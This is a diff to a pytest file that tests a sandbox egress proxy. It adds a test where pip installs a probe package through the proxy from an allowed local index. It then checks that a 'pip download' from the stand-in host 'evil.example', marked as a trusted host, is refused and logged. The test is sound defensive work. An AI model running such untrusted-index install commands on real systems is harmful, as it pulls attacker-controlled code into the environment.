@@ -15,9 +15,11 @@ import pytest
 from tether.contracts import SandboxSpec
 from tether.egress.proxy import EgressProxy
 from tether.sandbox.manager import SandboxBroken
+from tether.sandbox.workspace import put_file
 
 from tests.egress.conftest import egress  # noqa: F401 (the proxy, as a worker runs it)
-from tests.egress.servers import http_server, make_ca
+from tests.egress.package_index import PROBE, pip_zip, write_index
+from tests.egress.servers import directory_server, http_server, make_ca
 from tests.helpers import sandboxes
 from tests.sandbox.attacks import RUNTIMES, require
 from tests.sandbox.direct import call, direct_labels
@@ -53,6 +55,8 @@ async def egress_sandbox(egress: EgressProxy) -> AsyncIterator[Sandbox]:  # noqa
         container = await asyncio.to_thread(sandboxes().create, spec, direct_labels(), name=name,
                                             egress_dir=directory)
         made.append(container.id)
+        if directory is not None:
+            egress.made(name, container.id)
         await call(container.id, f"cat > /workspace/fetch.py <<'EOF'\n{FETCH}\nEOF")
         return str(container.id)
 
@@ -165,3 +169,25 @@ async def test_a_sandbox_is_made_only_with_the_egress_socket_its_network_calls_f
     with pytest.raises(SandboxBroken, match='network "none" gets no egress socket'):
         sandboxes().create(SandboxSpec(), direct_labels(), name=f"tether-test-{uuid.uuid4().hex[:12]}",
                            egress_dir=directory)
+
+
+@pytest.mark.parametrize("runtime", RUNTIMES)
+async def test_pip_installs_a_package_from_an_allowed_index_through_the_proxy(
+        egress_sandbox: Sandbox, egress: EgressProxy, runtime: str, tmp_path: Path) -> None:  # noqa: F811
+    write_index(tmp_path)
+    with directory_server(tmp_path, host=HOST) as port:
+        sandbox = await egress_sandbox(runtime, f"{HOST}:{port}")
+        await asyncio.to_thread(put_file, sandboxes(), sandbox, "pip.zip", pip_zip())
+        result = await call(sandbox, f"python3 pip.zip install --disable-pip-version-check --no-cache-dir"
+                                     f" --index-url http://{HOST}:{port}/simple/ --target lib {PROBE}"
+                                     " && PYTHONPATH=lib python3 -c"
+                                     " 'import tetherprobe; print(tetherprobe.HELLO)'",
+                            timeout=120)
+        assert result.stdout.splitlines()[-1] == "installed through the egress proxy", result.stderr
+        refused = await call(sandbox, "python3 pip.zip download --disable-pip-version-check --no-cache-dir"
+                                      " --retries 0 --trusted-host evil.example"
+                                      " --index-url http://evil.example/simple/ -d dl tetherprobe",
+                             timeout=120)
+        assert refused.exit_code != 0 and "No matching distribution found" in refused.stderr
+        await egress.settle()
+        assert [(d.destination, d.allowed) for d in egress.take(sandbox)][-1] == ("evil.example:80", False)
